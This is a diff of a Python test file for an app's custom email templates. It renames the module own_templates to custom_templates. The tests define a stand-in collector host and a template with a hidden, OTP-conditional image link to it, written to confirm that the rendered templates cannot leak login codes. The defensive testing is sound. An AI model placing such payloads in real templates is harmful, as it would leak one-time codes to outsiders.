@@ -14,8 +14,8 @@ from tenantry.call import Call
 from tenantry.core import errors
 from tenantry.core.caller import SYSTEM, Caller, Kind
 from tenantry.db.sql.statements import Statement
-from tenantry.events.mail import own_templates
-from tenantry.events.mail.use_cases import PLACEHOLDERS, USE_CASES, draft
+from tenantry.events.email import custom_templates
+from tenantry.events.email.use_cases import PLACEHOLDERS, USE_CASES, draft
 from tenantry.transfer.deployment import status
 
 ELSEWHERE = "https://collector.example/?c="
@@ -118,7 +118,9 @@ TAKEN = [
 
 
 def check(html: str = "<p>x</p>", plain: str = "x", subject: str = "Your code") -> None:
-    own_templates.check("LOGIN", {"subject": subject, "html_content": html, "plain_content": plain})
+    custom_templates.check(
+        "LOGIN", {"subject": subject, "html_content": html, "plain_content": plain}
+    )
 
 
 def refused(part: str, **contents: str) -> str:
@@ -160,16 +162,16 @@ def test_html_without_a_secret_is_nobody_elses_business():
 def test_our_own_words_may_be_kept_as_a_template(case):
     ours = draft(case)
     contents = {"subject": ours.subject, "html_content": ours.html, "plain_content": ours.text}
-    own_templates.check(case.name, contents)
+    custom_templates.check(case.name, contents)
     link = "https://app.example.com/link?a=1&b=2"
     given = {name: PLACEHOLDERS[name].sample for name in case.placeholders} | {"link": link}
-    made = own_templates.render(contents, given)
+    made = custom_templates.render(contents, given)
     if "link" in case.proofs:
         assert f'href="{link.replace("&", "&amp;")}"' in made.html
         assert link in made.text
     if "otp" in case.proofs:
         assert given["otp"] in made.text
-        named = own_templates.render(contents | {"subject": "{{ otp }} is it"}, given)
+        named = custom_templates.render(contents | {"subject": "{{ otp }} is it"}, given)
         assert named.subject == f"{given['otp']} is it"
         assert given["otp"] in made.html
 
@@ -180,7 +182,7 @@ def test_a_condition_learns_nothing_of_a_code():
         "html_content": '{{ if otp == "123456" }}<img src="https://collector.example/1">{{ end }}x',
         "plain_content": "{{ otp }}",
     }
-    made = own_templates.render(contents, {"otp": "123456"})
+    made = custom_templates.render(contents, {"otp": "123456"})
     assert "collector" not in made.html
     assert "123456" in made.text
 
@@ -212,10 +214,10 @@ async def test_one_that_was_kept_before_gives_way_to_ours_and_is_reported(
     # It is not enabled again, nor changed while the misplaced part remains.
     call = Call(SYSTEM, db, "req_test")
     with pytest.raises(errors.InvalidArgument):
-        await own_templates.enable(call, None, "eml_1")
+        await custom_templates.enable(call, None, "eml_1")
     with pytest.raises(errors.InvalidArgument):
-        await own_templates.change(call, None, "eml_1", {"subject": "Come"})
-    await own_templates.change(call, None, "eml_1", {"html_content": "<p>{{ link }}</p>"})
+        await custom_templates.change(call, None, "eml_1", {"subject": "Come"})
+    await custom_templates.change(call, None, "eml_1", {"html_content": "<p>{{ link }}</p>"})
     assert (await status.look(db, configured(data_dir=tmp_path), "env_1")).refused_templates == ()
 
 
